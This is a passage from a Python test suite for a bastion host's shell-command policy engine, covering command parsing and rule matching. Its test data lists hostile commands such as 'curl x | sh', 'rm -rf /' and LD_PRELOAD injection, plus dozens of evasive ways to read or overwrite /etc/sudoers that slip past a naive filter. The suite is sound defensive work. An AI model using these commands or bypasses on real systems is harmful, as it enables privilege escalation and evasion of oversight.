    rows = [re.split(r"\s{2,}", row.strip()) for row in block.splitlines() if row.strip()]
    assert len(rows) > 10
    for line, expected, rule, *_ in rows:
        verdict = evaluate(default_policy, line, role="engineer", target="web01")
        assert (verdict.action, verdict.rule) == (expected, rule), line


def test_default_policy_roles_and_targets(default_policy: Policy) -> None:
    assert action(default_policy, "sudo -i", role="vendor") == "deny"
    assert action(default_policy, "su - postgres", role="vendor") == "deny"
    assert action(default_policy, "dropdb app", target="db01") == "confirm"
    assert action(default_policy, "dropdb app", target="web01") == "allow"


def test_default_policy_defaults_match_the_design(default_policy: Policy) -> None:
    assert default_policy.defaults == Defaults(
        unmatched="allow", unknown="confirm", uncertain="deny", confirm_timeout=120.0
    )


# ---------------------------------------------------------------------------------------------
# What a line runs: the simple commands found, by name (None: known only at run time).

COMMAND_NAMES = [
    ("", []),
    ("# just a comment", []),
    ("ls", ["ls"]),
    ("ls -la /tmp", ["ls"]),
    ("/usr/bin/env", ["env"]),
    ("env", ["env"]),
    ("sudo -l", ["sudo"]),
    ("sudo", ["sudo"]),
    ("nohup", ["nohup"]),
    ("timeout 5", ["timeout"]),
    ("xargs", ["xargs"]),
    ("command -v rm", ["command"]),
    ("su -", ["su"]),
    ("sudo -u postgres psql", ["psql"]),
    ("sudo /sbin/reboot", ["reboot"]),
    ("FOO=1 rm -rf /", ["rm", "FOO="]),
    ("a=1 b=2", ["a=", "b="]),
    ("x=1; y=$(date)", ["x=", "y=", "date"]),
    ("arr[0]=1", ["arr="]),
    ("export A=1 B", ["export", "A="]),
    ("local x=1", ["local", "x="]),
    ("unset HISTFILE", ["unset"]),
    ("ls > out.txt", ["ls", ">"]),
    ("ls >> out.txt 2>&1", ["ls", ">"]),
    ("ls 2>&1 >&2", ["ls"]),
    ("cat < in.txt", ["cat", "<"]),
    ("ls; pwd", ["ls", "pwd"]),
    ("ls && pwd || id", ["ls", "pwd", "id"]),
    ("ps aux | grep x | wc -l", ["ps", "grep", "wc"]),
    ("(cd /tmp && ls)", ["cd", "ls"]),
    ("{ ls; pwd; }", ["ls", "pwd"]),
    ("echo $(date)", ["echo", "date"]),
    ("echo `date`", ["echo", "date"]),
    ("diff <(ls a) <(ls b)", ["diff", "ls", "ls"]),
    ("if [ -f x ]; then cat x; else touch x; fi", ["[", "cat", "touch", ">"]),
    # `[[` is a command to sh (dash): the line as sh reads it is judged too
    ("[[ -n $(id -u) ]]", ["id", "[["]),
    ("while read l; do echo $l; done < f", ["read", "l=", "echo", "<"]),
    ("case $1 in start) run;; stop) halt;; esac", ["run", "halt"]),
    ("f() { ls; }; f", ["ls", "f"]),
    ("sudo -u root nice -n 5 ls", ["ls"]),
    ("env -i A=1 ls", ["ls", "A=", None]),  # None: TERM taken away (attack H, finding 5)
    ("env A=1", ["env"]),
    ("env -- A=1 ls", ["ls", "A="]),
    ("timeout -k 5 10 ls", ["ls"]),
    ("xargs -n1 -P4 gzip", ["xargs", "gzip"]),  # xargs reads the line's stdin
    ("xargs -I{} cp {} /tmp", ["xargs", "cp", ">"]),
    ("ls | xargs -n1 gzip", ["ls", "gzip"]),
    # gzip gets the files found: it replaces (writes and removes) each (attack k20f, finding 8)
    ("find . -name '*.log' -exec gzip {} \\;", ["find", "gzip", ">", ">", "rm"]),
    ("find . -exec ls {} + -exec wc -l {} \\;", ["find", "ls", "wc"]),
    ("watch -n 5 'df -h; free -m'", ["df", "free"]),
    ("bash -c 'ls; pwd'", ["ls", "pwd"]),
    ("sh -c 'ls' argv0 a b", ["ls"]),
    ("eval 'ls; pwd'", ["ls", "pwd"]),
    ("su -c 'id' bob", ["id"]),
    ("busybox ls", ["ls"]),
    ("busybox --list", ["busybox"]),
    ("python3 -c 'print(1)'", ["python3"]),
    ("python3 script.py", ["python3"]),
    ("perl -e 'print 1'", ["perl"]),
    ("ssh host rm -rf /", ["ssh", "rm"]),
    ("ssh -l root -p 2222 host 'ls; df'", ["ssh", "ls", "df"]),
    ("ssh -N -L 8080:localhost:80 host", ["ssh"]),
    ("bash script.sh", ["bash"]),
    ("bash", ["bash"]),
    ("bash < script.sh", ["bash", "<"]),
    ("bash <<< 'ls'", ["ls"]),
    ("cat <<EOF\nhello\nEOF", ["cat"]),
    ("cat <<EOF > /tmp/x\n$(date)\nEOF", ["cat", "date", ">"]),
    ("trap 'echo bye' EXIT", ["trap", "echo"]),
    ("alias ll='ls -l'", ["alias", "ls"]),
    ("curl x | sh", ["curl", None, "|"]),
    ("ls | parallel gzip", ["ls", "gzip"]),
    ("parallel 'echo {}' ::: a b", ["echo", "echo"]),
    ("- a=b", ["-"]),
    ("$cmd arg", [None]),
    ("ls; )", ["ls", None]),
    ("echo a\\\nb", ["echo"]),
]


@each(("line", "expected"), COMMAND_NAMES)
def test_command_names_found_in_a_line(line: str, expected: list[str | None]) -> None:
    assert names(line) == expected


def test_argv_keeps_the_path_and_loses_quotes_and_wrappers() -> None:
    [command] = parse_commands("sudo -u root \"/usr/bin/r\"'m' -rf '/tmp/a b'")
    assert command.name == "rm"
    assert command.argv == ("/usr/bin/rm", "-rf", "/tmp/a b")
    assert command.wrappers == ("sudo",)
    assert command.text == "sudo -u root \"/usr/bin/r\"'m' -rf '/tmp/a b'"


def test_ansi_c_strings_are_decoded() -> None:
    doubt, command = parse_commands(r"printf $'a\tb\x41\101\u00e9\cA\n' $'it\'s'")
    assert command.argv[1:] == ("a\tbAA\u00e9\x01\n", "it's")
    # sh (dash) has no $'...' and ends the string at \': the line is read two ways.
    assert doubt.name is None and "dash" in doubt.unknown


def test_words_known_only_at_run_time_are_kept_as_written() -> None:
    [command] = parse_commands('rm -rf "$dir"/* ${HOME}')
    assert command.argv == ("rm", "-rf", '"$dir"/*', "${HOME}")
    assert command.dynamic_args
    assert not parse_commands("rm -rf /tmp/x")[0].dynamic_args


# tree-sitter-bash 0.25 crashes the process (nondeterministically) on some characters such as
# U+E0000 and U+10FFFF; a typed line must never take the bastion down.
CRASHING_TEXT = ["{\U0010a801(", "|{\U000e0000(", "{\U000759c0(", "{\U0010ffff(", "{\U000f0000("]


@each("text", CRASHING_TEXT)
def test_characters_that_crash_tree_sitter_are_parsed_safely(text: str) -> None:
    for attempt in range(200):
        parse_commands(f"{text} # {attempt}")
        is_complete(f"{text} {attempt}")


def test_non_ascii_words_are_read_back_exactly() -> None:
    [command] = parse_commands("echo 'h\u00e9\U0010a801' \"\u4e2d\" caf\u00e9")
    assert command.argv == ("echo", "h\u00e9\U0010a801", "\u4e2d", "caf\u00e9")
    assert names("\u00e9cho x; rm -rf /\u00e9") == ["\u00e9cho", "rm"]


def test_nested_text_points_at_the_inner_command() -> None:
    verdict_commands = parse_commands("bash -c 'ls; reboot'")
    assert [c.text for c in verdict_commands] == ["ls", "reboot"]
    assert verdict_commands[1].wrappers == ("bash",)


# ---------------------------------------------------------------------------------------------
# Rule semantics, with small policies.


def test_first_matching_rule_decides() -> None:
    policy = small_policy(
        {"name": "keep-tmp", "action": "allow", "commands": ["rm"], "args": "^-rf /tmp/"},
        {"name": "no-rm-rf", "action": "deny", "commands": ["rm"], "flags": ["-r", "-f"]},
    )
    assert evaluate(policy, "rm -rf /tmp/x", role="r", target="t").rule == "keep-tmp"
    assert evaluate(policy, "rm -rf /srv", role="r", target="t").rule == "no-rm-rf"
    assert evaluate(policy, "rm -r /srv", role="r", target="t").rule == "defaults.unmatched"


def test_an_allow_rule_for_one_command_does_not_let_the_next_one_through() -> None:
    # jumpserver#11527: an allow rule matching first let `ls;rm x` through.
    policy = small_policy(
        {"name": "ls-ok", "action": "allow", "commands": ["ls"]},
        {"name": "no-rm", "action": "deny", "commands": ["rm"]},
    )
    for line in ("ls;rm x", "ls; rm x", "ls && rm x", "ls | rm x", "ls $(rm x)", "ls\nrm x"):
        verdict = evaluate(policy, line, role="r", target="t")
        assert (verdict.action, verdict.rule, verdict.command) == ("deny", "no-rm", "rm x"), line


def test_strictest_action_wins_across_commands() -> None:
    policy = small_policy(
        {"name": "a", "action": "alert", "commands": ["a"]},
        {"name": "c", "action": "confirm", "commands": ["c"]},
        {"name": "d", "action": "deny", "commands": ["d"]},
    )
    cases = [("a; x", "alert"), ("x; a; c", "confirm"), ("c; d; a", "deny"), ("x; y", "allow")]
    for line, expected in cases:
        assert evaluate(policy, line, role="r", target="t").action == expected, line


def test_on_a_tie_the_first_command_decides() -> None:
    policy = small_policy(
        {"name": "one", "action": "confirm", "commands": ["one"]},
        {"name": "two", "action": "confirm", "commands": ["two"]},
    )
    verdict = evaluate(policy, "two; one", role="r", target="t")
    assert (verdict.rule, verdict.command) == ("two", "two")


def test_substrings_are_not_commands() -> None:
    # jumpserver#14351, #10840: `set` in `GET`, `init` in `vim init.py`.
    policy = small_policy(
        {"name": "no-set", "action": "deny", "commands": ["set"]},
        {"name": "no-init", "action": "deny", "commands": ["init"]},
        {"name": "no-rm", "action": "deny", "commands": ["rm"]},
    )
    for line in ("curl -X GET http://x/settings", "vim init.py", "./init.sh", "cat /etc/init.d/x",
                 "echo rm", "farm --rm", "git branch -d rm-branch", "reset"):
        assert evaluate(policy, line, role="r", target="t").action == "allow", line
    assert evaluate(policy, "set -x", role="r", target="t").action == "deny"


def test_globs_match_command_names() -> None:
    policy = small_policy({"name": "mkfs", "action": "deny", "commands": ["mkfs.*", "wipe?s"]})
    for line, expected in [("mkfs.ext4 /dev/x", "deny"), ("wipefs -a x", "deny"),
                           ("mkfs /dev/x", "allow"), ("xmkfs.ext4", "allow")]:
        assert evaluate(policy, line, role="r", target="t").action == expected, line


def test_flags_split_combined_short_flags_and_strip_long_values() -> None:
    policy = small_policy(
        {"name": "rf", "action": "deny", "commands": ["rm"], "flags": ["-r", "-f"]},
        {"name": "force", "action": "confirm", "commands": ["git"], "flags": ["--force"]},
    )
    cases = [
        ("rm -rf x", "deny"), ("rm -fr x", "deny"), ("rm -r -f x", "deny"), ("rm -vrfi x", "deny"),
        ("rm -r x", "allow"), ("rm -- -rf", "allow"), ("rm ./-rf", "allow"),
        ("git push --force", "confirm"), ("git push --force=yes", "confirm"),
        ("git push --force-with-lease", "allow"),
    ]
    for line, expected in cases:
        assert evaluate(policy, line, role="r", target="t").action == expected, line


def test_args_regex_is_searched_in_arguments_joined_by_single_spaces() -> None:
    policy = small_policy(
        {"name": "stop", "action": "deny", "commands": ["systemctl"], "args": "^stop auditd$"}
    )
    cases = [("systemctl   stop\tauditd", "deny"), ("systemctl 'stop' auditd", "deny"),
             ("systemctl stop auditd2", "allow"), ("stop auditd", "allow")]
    for line, expected in cases:
        assert evaluate(policy, line, role="r", target="t").action == expected, line


def test_roles_and_targets_narrow_a_rule() -> None:
    policy = small_policy(
        {"name": "vendors", "action": "deny", "commands": ["ls"], "roles": ["vendor"]},
        {"name": "dbs", "action": "confirm", "commands": ["ls"], "targets": ["db*", "pg-?"]},
    )
    assert evaluate(policy, "ls", role="vendor", target="web").rule == "vendors"
    assert evaluate(policy, "ls", role="engineer", target="db01").rule == "dbs"
    assert evaluate(policy, "ls", role="engineer", target="pg-1").rule == "dbs"
    assert evaluate(policy, "ls", role="engineer", target="web").rule == "defaults.unmatched"


def test_run_time_arguments_get_the_weaker_of_rule_and_unknown() -> None:
    policy = small_policy(
        {"name": "no-root", "action": "deny", "commands": ["rm"], "args": "(^|\\s)/(\\s|$)"},
        {"name": "flag", "action": "alert", "commands": ["chmod"], "args": "u\\+s"},
        unknown="confirm",
    )
    cases = [
        ('rm -rf "$d"', "confirm", "no-root"),
        ("rm -rf / $d", "deny", "no-root"),
        ("rm -rf /tmp/x", "allow", "defaults.unmatched"),
        ("chmod $mode f", "alert", "flag"),
        ("xargs rm", "confirm", "no-root"),
    ]
    for line, expected, rule in cases:
        verdict = evaluate(policy, line, role="r", target="t")
        assert (verdict.action, verdict.rule) == (expected, rule), line


def test_an_allow_rule_with_args_does_not_carve_out_run_time_arguments() -> None:
    policy = small_policy(
        {"name": "tmp-ok", "action": "allow", "commands": ["rm"], "args": "^/tmp/"},
        {"name": "no-rm", "action": "deny", "commands": ["rm"]},
    )
    assert evaluate(policy, "rm /tmp/x", role="r", target="t").action == "allow"
    assert evaluate(policy, "rm /tmp/x $more", role="r", target="t").action == "deny"


def test_defaults_decide_unmatched_and_unknown_commands() -> None:
    policy = small_policy(unmatched="deny", unknown="alert")
    verdict = evaluate(policy, "ls", role="r", target="t")
    assert (verdict.action, verdict.rule, verdict.command) == ("deny", "defaults.unmatched", "ls")
    verdict = evaluate(policy, "$x", role="r", target="t")
    assert (verdict.action, verdict.rule) == ("alert", "defaults.unknown")


def test_pseudo_commands_can_be_named_by_rules() -> None:
    policy = small_policy(
        {"name": "no-etc-writes", "action": "deny", "commands": [">"], "args": "^/etc/"},
        {"name": "no-ld-preload", "action": "deny", "commands": ["LD_PRELOAD="]},
    )
    for line, expected in [("echo x >> /etc/hosts", "deny"), ("echo x > /tmp/y", "allow"),
                           ("export LD_PRELOAD=/tmp/x.so", "deny"), ("LD_PRELOAD=x", "deny")]:
        assert evaluate(policy, line, role="r", target="t").action == expected, line


def test_verdict_reports_the_deciding_command_and_one_line_message() -> None:
    policy = small_policy(
        {"name": "no-reboot", "action": "confirm", "commands": ["reboot"],
         "message": "Reboots need a supervisor."},
        {"name": "quiet", "action": "deny", "commands": ["halt"]},
    )
    verdict = evaluate(policy, "uptime; sudo reboot", role="r", target="t")
    assert verdict.action == "confirm"
    assert verdict.rule == "no-reboot"
    assert verdict.message == "Reboots need a supervisor."
    assert verdict.command == "sudo reboot"
    assert [c.name for c in verdict.commands] == ["uptime", "reboot"]
    verdict = evaluate(policy, "halt", role="r", target="t")
    assert "quiet" in verdict.message and "\n" not in verdict.message
    verdict = evaluate(policy, "x=1\n$x\nmore", role="r", target="t")
    assert verdict.rule == "defaults.unknown" and "\n" not in verdict.message


def test_allow_verdicts_name_no_command() -> None:
    policy = small_policy({"name": "ls-ok", "action": "allow", "commands": ["ls"]})
    verdict = evaluate(policy, "ls", role="r", target="t")
    assert (verdict.action, verdict.rule, verdict.command, verdict.message) == (
        "allow", "ls-ok", "", ""
    )
    empty = evaluate(policy, "  # nothing", role="r", target="t")
    assert (empty.action, empty.rule, empty.commands) == ("allow", None, ())


def test_uncertain_verdict_uses_the_uncertain_default() -> None:
    verdict = uncertain_verdict(small_policy(uncertain="confirm"), "line wrapped\nby the app")
    assert (verdict.action, verdict.rule, verdict.command, verdict.commands) == (
        "confirm", "defaults.uncertain", "", ()
    )
    assert "line wrapped by the app" in verdict.message


def test_rules_can_be_built_directly() -> None:
    policy = Policy(Defaults(), (Rule("r", "deny", ("rm",), flags=("-r",)),))
    assert evaluate(policy, "rm -r x", role="r", target="t").action == "deny"
    with pytest.raises(ValueError):
        Rule("bad", "block", ("rm",))
    with pytest.raises(ValueError):
        Defaults(unknown="maybe")


# ---------------------------------------------------------------------------------------------
# Paths: the rule key `paths`, with small policies.

SUDOERS = {"name": "sudoers", "action": "deny", "commands": [">", "rm", "cat", "mv", "chmod", "<"],
           "paths": ["/etc/sudoers", "/etc/sudoers.d/**"]}


@each(("path", "normalised"), [
    ("/etc/sudoers", "/etc/sudoers"), ("/etc//sudoers", "/etc/sudoers"),
    ("/etc/./sudoers", "/etc/sudoers"), ("/etc/../etc/sudoers", "/etc/sudoers"),
    ("//etc/sudoers/", "/etc/sudoers"), ("/tmp/../", "/"), ("/..", "/"), ("/../../etc", "/etc"),
    ("a/./b/../c", "a/c"), ("../x", "../x"), ("./", "."), ("", "."), ("a/..", "."),
])
def test_paths_are_normalised_lexically(path: str, normalised: str) -> None:
    assert normalise_path(path) == normalised


PATH_CASES = [
    # (line, login, action): how each spelling of a path meets the rule above
    ("cat /etc/sudoers", None, "deny"),
    ("cat /etc//sudoers", None, "deny"),
    ("cat /etc/./sudoers", None, "deny"),
    ("cat /tmp/../etc/sudoers", None, "deny"),
    ("cat /etc/sudoers.d", None, "deny"),  # ** also spans no component
    ("cat /etc/sudoers.d/a/b", None, "deny"),
    ("cat /etc/sudoers.bak", None, "allow"),
    ("cat /etc/sudoersX", None, "allow"),
    ("cat -- /etc/sudoers", None, "deny"),
    ("cat --file=/etc/sudoers", None, "deny"),
    ("cat -f/etc/sudoers", None, "deny"),
    ("cat if=/etc/sudoers", None, "deny"),
    ("echo x > /etc/sudoers", None, "deny"),
    ("cat < /etc//sudoers", None, "deny"),
    ("cat '/etc/sudoer?'", None, "allow"),  # quoted: a file named "sudoer?"
    ("cat /etc/sudoer?", None, "confirm"),  # a glob that could match
    ("cat /etc/*", None, "confirm"),
    ("cat /e*/sudoers.d/x", None, "confirm"),
    ("cat /etc/sudoers.d/*", None, "confirm"),
    ("cat /etc/*.conf", None, "allow"),  # cannot be sudoers
    ("cat /etc/x/*", None, "allow"),
    ("cat /etc/sudoer{s,x}", None, "deny"),  # braces expand into /etc/sudoers
    ("cat /etc/{a,b}", None, "allow"),
    ('cat "$f"', None, "confirm"),  # known only at run time
    ("cat /etc/$(echo sudoers)", None, "confirm"),
    ("cat etc/sudoers", None, "allow"),  # relative: judged as written
    ("cat ../etc/sudoers", None, "confirm"),  # it climbs: /etc/sudoers from a shallow directory
    ("cat ~root/../etc/sudoers", None, "deny"),  # ~root is /root
    ("cat ~/../../etc/sudoers", "deploy", "deny"),  # ~ is /home/deploy
    ("cat ~/../etc/sudoers", "root", "deny"),  # ~ is /root
    ("cat ~/../etc/sudoers", None, "allow"),  # some /home/*: /home/x/../etc is /home/etc
    ("cat ~/../../etc/sudoers", None, "deny"),
    ("cat ~/x", None, "allow"),
    ("cat '~root/../etc/sudoers'", None, "allow"),  # a quoted ~ is no home
    ("cat ~+/sudoers", None, "confirm"),  # $PWD, which an earlier line may set (attack p25f, 4)
    # outside attack B, finding 11: following the directory a line moves to
    ("cd /etc; cat ~+/sudoers", None, "deny"),
    ("cd /etc; cat ~0/sudoers", None, "deny"),
    ("cd /etc; cat ~+0/sudoers", None, "deny"),
    ("cd /tmp; cat ~-/sudoers", None, "confirm"),  # $OLDPWD
    ("cat ~1/sudoers", None, "confirm"),  # the directory stack
    ("cat ~-2/sudoers", None, "confirm"),
    ("CDPATH=/; cd etc; cat sudoers", None, "deny"),
    ("CDPATH=:/srv:/; cd etc && cat sudoers", None, "deny"),
    ("CDPATH=$x; cd etc; cat sudoers", None, "confirm"),
    ("CDPATH=/; cd ./etc; cat sudoers", None, "allow"),  # ./ is not searched in CDPATH
    ("pushd /etc; pushd /tmp; popd; cat sudoers", None, "deny"),
    ("pushd /etc; pushd /tmp; pushd; cat sudoers", None, "deny"),
    # Back where it started, or (attack I, finding 1: a popd may fail too) still in /etc.
    ("pushd /etc; cd /tmp; popd; cat sudoers", None, "deny"),
    ("pushd /tmp; pushd +1; cat sudoers", None, "confirm"),
    ("popd; cat sudoers", None, "confirm"),
    ("pushd; cat sudoers", None, "confirm"),
    ("shopt -s cdable_vars; e=/etc; cd e; cat sudoers", None, "deny"),
    ("shopt -s cdable_vars; cd e; cat sudoers", None, "confirm"),
    ("HOME=/etc; cat ~/sudoers", None, "deny"),
    ("HOME=/etc; cd; cat sudoers", None, "deny"),
    ("export HOME=$x; cat ~/sudoers", None, "confirm"),
    ("cd /etc; cat ~/sudoers", "deploy", "allow"),
    # outside attack C, finding 9: /proc's magic links
    ("cat /proc/self/root/etc/sudoers", None, "deny"),
    ("cat /proc/1/root/etc/sudoers", None, "deny"),
    ("cd /etc; cat /proc/self/cwd/sudoers", None, "deny"),
    ("cd /root; cat /proc/self/cwd/../etc/sudoers", None, "deny"),
    ("cat ~/../proc/self/cwd/../etc/sudoers", "root", "confirm"),
    ("cat /proc/self/cwd/../etc/sudoers", None, "confirm"),
    ("cat /proc/1/cwd/etc/sudoers", None, "confirm"),
    ("cat /proc/self/fd/3/../sudoers", None, "confirm"),
    ("cat /proc/self/cwd/notes", None, "allow"),
    # finding 8: the directory a wrapper runs its command in
    ("env -C /etc cat sudoers", None, "deny"),
    ("env -C /tmp cat sudoers", None, "allow"),
    ("env -C /etc cat sudoers; cat sudoers", None, "deny"),
    ("env -C /tmp true; cat sudoers", None, "allow"),  # the line's own directory is kept
    ("cd /; env -C etc cat sudoers", None, "deny"),
    ('env -C "$d" cat sudoers', None, "confirm"),
    ("sudo -i cat ../etc/sudoers", None, "deny"),
    ("sudo -u bob -i cat ../../etc/sudoers", None, "deny"),
    ("sudo -D /etc cat sudoers", None, "deny"),
    ("sudo -s cat sudoers", None, "allow"),  # keeps the directory
    ("su -l -c 'cat ../etc/sudoers'", None, "deny"),
    ("su -c 'cat ../etc/sudoers'", None, "confirm"),
    ("chroot /mnt cat /etc/sudoers", None, "deny"),  # as written, and /mnt/etc/sudoers
    ("chroot /proc/1/root cat etc/sudoers", None, "deny"),
    ("chroot --skip-chdir / cat sudoers", None, "allow"),
    ("unshare -R /proc/1/root cat /etc/sudoers", None, "deny"),
    ("nsenter -t 1 -w cat sudoers", None, "confirm"),
    ("systemd-run cat etc/sudoers", None, "deny"),  # a service starts in /
    ("systemd-run --scope cat etc/sudoers", None, "allow"),
    ("find /etc -maxdepth 0 -execdir cat etc/sudoers ;", None, "deny"),
]


@each(("path", "expected"), [
    # (path, (kind, text)): /proc's magic links, which a lexical `..` would step over
    ("/proc/self/root/etc/sudoers", ("exact", "/etc/sudoers")),
    ("/proc/1/root/etc/../etc/sudoers", ("exact", "/etc/sudoers")),
    ("/proc/thread-self/root", ("exact", "/")),
    ("/proc/self/task/7/root/etc", ("exact", "/etc")),
    ("/proc/self/root/../etc", ("exact", "/etc")),
    ("/proc/./self/../1/root/etc", ("exact", "/etc")),
    ("/proc/self/root/proc/self/root/etc", ("exact", "/etc")),
    ("/proc/self/cwd/x", ("exact", "x")),
    ("/proc/self/cwd/../etc/sudoers", ("exact", "../etc/sudoers")),
    ("/proc/thread-self/cwd/..", ("exact", "..")),
    ("/proc/1/cwd/etc", ("unknown", "/proc/1/cwd/etc")),
    ("/proc/1/task/1/cwd", ("unknown", "/proc/1/task/1/cwd")),
    ("/proc/self/fd/3/../sudoers", ("unknown", "/proc/self/fd/3/../sudoers")),
    ("/proc/1/fd/1", ("unknown", "/proc/1/fd/1")),
    ("/proc/self/fd/1", ("exact", "/proc/self/fd/1")),
    ("/proc/1/fd", ("exact", "/proc/1/fd")),
    ("/proc/1/exe", ("unknown", "/proc/1/exe")),
    ("/proc/self/map_files/x", ("unknown", "/proc/self/map_files/x")),
    ("/dev/fd/3/../../etc", ("unknown", "/dev/fd/3/../../etc")),
    ("/dev/stdout/../x", ("unknown", "/dev/stdout/../x")),
    ("/dev/fd/2", ("exact", "/dev/fd/2")),
    ("/proc/self/status", ("exact", "/proc/self/status")),
    ("/proc/selfish/cwd/x", ("exact", "/proc/selfish/cwd/x")),
    ("proc/self/cwd/../x", ("exact", "proc/self/x")),  # relative: no /proc there
    ("/etc/../etc//sudoers", ("exact", "/etc/sudoers")),
])
def test_paths_through_proc_are_resolved_or_unknown(path: str, expected: tuple[str, str]) -> None:
    assert through_proc(path) == expected


@each(("line", "login", "expected"), PATH_CASES)
def test_rules_match_paths_however_they_are_spelled(line: str, login: str | None,
                                                     expected: str) -> None:
    policy = small_policy(SUDOERS)
    verdict = evaluate(policy, line, role="r", target="t", login=login)
    assert verdict.action == expected, verdict.commands


def test_path_globs_star_stays_in_a_component_and_a_bare_name_matches_anywhere() -> None:
    policy = small_policy(
        {"name": "top", "action": "deny", "commands": ["rm"], "paths": ["/srv/*"]},
        {"name": "deep", "action": "confirm", "commands": ["rm"], "paths": ["/data/**/keep"]},
        {"name": "history", "action": "alert", "commands": ["rm"], "paths": [".bash_history"]},
    )
    cases = [("rm /srv/a", "deny"), ("rm /srv/a/b", "allow"), ("rm /data/keep", "confirm"),
             ("rm /data/a/b/keep", "confirm"), ("rm /data/a/keeps", "allow"),
             ("rm .bash_history", "alert"), ("rm /root/.bash_history", "alert"),
             ("rm ~/.bash_history", "alert"), ("rm x.bash_history", "allow"),
             ("rm *", "allow"),  # a glob does not match a leading dot
             ("rm .*", "alert")]  # .* could be .bash_history: the weaker of alert and unknown
    for line, expected in cases:
        assert evaluate(policy, line, role="r", target="t").action == expected, line


def test_an_allow_rule_with_paths_needs_every_path_to_match() -> None:
    policy = small_policy(
        {"name": "tmp-ok", "action": "allow", "commands": ["rm"], "paths": ["/tmp/**"]},
        {"name": "no-rm", "action": "deny", "commands": ["rm"]},
    )
    cases = [("rm /tmp/a /tmp/b/c", "allow"), ("rm /tmp/a /etc/passwd", "deny"),
             ("rm /tmp/../etc/passwd", "deny"), ("rm /tmp/*", "deny"), ('rm "$f"', "deny"),
             ("rm", "deny")]
    for line, expected in cases:
        assert evaluate(policy, line, role="r", target="t").action == expected, line


def test_paths_combine_with_flags_and_args() -> None:
    policy = small_policy({"name": "r", "action": "deny", "commands": ["rm"], "flags": ["-r"],
                           "paths": ["/srv"]})
    cases = [("rm -r /srv", "deny"), ("rm /srv", "allow"), ("rm -r /srv/x", "allow"),
             ("rm $opts /srv", "confirm"), ("rm -r /s?v", "confirm")]
    for line, expected in cases:
        assert evaluate(policy, line, role="r", target="t").action == expected, line


# Commands that write a file count as ">" on it, as a redirection does.
WRITES = [
    ("tee a /etc/sudoers", ["/etc/sudoers"]),
    ("tee -a /etc/sudoers < x", ["/etc/sudoers"]),
    ("dd if=/dev/zero of=/etc/sudoers", ["/etc/sudoers"]),
    ("cp x /etc/sudoers", ["/etc/sudoers"]),
    ("cp sudoers /etc", ["/etc/sudoers"]),  # into the directory
    ("cp -r a/sudoers b /etc/", ["/etc/sudoers"]),
    ("cp -t /etc sudoers", ["/etc/sudoers"]),
    ("mv sudoers /etc/.", ["/etc/sudoers"]),
    ("install -m 0440 -o root x /etc/sudoers", ["/etc/sudoers"]),
    ("ln -sf /tmp/x /etc/sudoers", ["/etc/sudoers"]),
    ("rsync -a --chmod=F440 x /etc/sudoers", ["/etc/sudoers"]),
    ("scp -t /etc/sudoers", ["/etc/sudoers"]),
    ("find /var -maxdepth 0 -fprint /etc/sudoers", ["/etc/sudoers"]),
    ("sort -uo /etc/sudoers x", ["/etc/sudoers"]),
    ("curl --output=/etc/sudoers http://x", ["/etc/sudoers"]),
    ("wget -q -O /etc/sudoers http://x", ["/etc/sudoers"]),
    # outside attack E, finding 3: writers not counted as writes
    ("sed -n 'w /etc/sudoers' x", ["/etc/sudoers"]),
    ("sed -n 'W /etc/sudoers' x", ["/etc/sudoers"]),
    ("sed -n 's/^/y/w /etc/sudoers' x", ["/etc/sudoers"]),
    ("sed -e 's/a/b/' -e '/x/{w /etc/sudoers\n}' x", ["/etc/sudoers"]),
    ("sed --expression='1w /etc/sudoers' x", ["/etc/sudoers"]),
    ("sed -n '/root/!w /etc/sudoers' x", ["/etc/sudoers"]),
    ("strace -o /etc/sudoers true", ["/etc/sudoers"]),
    ("ltrace -o /etc/sudoers true", ["/etc/sudoers"]),
    ("time -o /etc/sudoers true", ["/etc/sudoers"]),
    ("tar -cf /etc/sudoers x", ["/etc/sudoers"]),
    ("tar cf /etc/sudoers x", ["/etc/sudoers"]),
    ("tar --create --file=/etc/sudoers x", ["/etc/sudoers"]),
    ("tar -czf x.tgz -g /etc/sudoers y", ["/etc/sudoers"]),
    ("ssh-keygen -q -N '' -f /etc/sudoers", ["/etc/sudoers"]),
    ("sqlite3 /etc/sudoers 'create table t(a)'", ["/etc/sudoers"]),
    ("sqlite3 db \".output /etc/sudoers\"", ["/etc/sudoers"]),
    ("sqlite3 db \"attach database '/etc/sudoers' as s\"", ["/etc/sudoers"]),
    ("sqlite3 db \"select writefile('/etc/sudoers', 'x')\"", ["/etc/sudoers"]),
    ("sqlite3 db \"vacuum into '/etc/sudoers'\"", ["/etc/sudoers"]),
    ("git -C /etc config -f sudoers user.name y", ["/etc/sudoers"]),
    ("git config --file=/etc/sudoers user.name y", ["/etc/sudoers"]),
    ("gzip /etc/sudoers", ["/etc/sudoers"]),
    ("gunzip /etc/sudoers.gz", ["/etc/sudoers"]),
    ("touch /etc/sudoers", ["/etc/sudoers"]),
    ("curl -c /etc/sudoers https://x", ["/etc/sudoers"]),
    ("curl --dump-header /etc/sudoers https://x", ["/etc/sudoers"]),
    ("openssl req -new -keyout /etc/sudoers -out x", ["/etc/sudoers"]),
    ("tcpdump -w /etc/sudoers", ["/etc/sudoers"]),
    ("ssh -E /etc/sudoers host", ["/etc/sudoers"]),
    ("zip /etc/sudoers f", ["/etc/sudoers"]),
    ("htpasswd -c /etc/sudoers u", ["/etc/sudoers"]),
    ("gcc -o /etc/sudoers x.c", ["/etc/sudoers"]),
    ("cpio -o -O /etc/sudoers < list", ["/etc/sudoers"]),
    # outside attack O, finding 1: each form getopt reads (`--`, clusters, attached, prefixes)
    ("history -w -- /etc/sudoers", ["/etc/sudoers"]),
    ("history -a -- /etc/sudoers", ["/etc/sudoers"]),
    ("history -cw /etc/sudoers", ["/etc/sudoers"]),
    ("sort -uo/etc/sudoers x", ["/etc/sudoers"]),
    ("sort -o/etc/sudoers x", ["/etc/sudoers"]),
    ("sort --outp /etc/sudoers x", ["/etc/sudoers"]),
    ("curl -sSLo/etc/sudoers http://x", ["/etc/sudoers"]),
    ("wget -qO/etc/sudoers http://x", ["/etc/sudoers"]),
    # finding 8: writers missing or spelled otherwise
    ("openssl base64 -d -in x --out /etc/sudoers", ["/etc/sudoers"]),
    ("openssl enc -d -a -in x --out=/etc/sudoers", ["/etc/sudoers"]),
    ("openssl req -new -key k --keyout /etc/sudoers", ["/etc/sudoers"]),
    ("openssl s_client -connect h:443 -keylogfile /etc/sudoers", ["/etc/sudoers"]),
    ("openssl s_client -connect h:443 -sess_out=/etc/sudoers", ["/etc/sudoers"]),
    ("openssl s_client -connect h:443 --msgfile /etc/sudoers", ["/etc/sudoers"]),
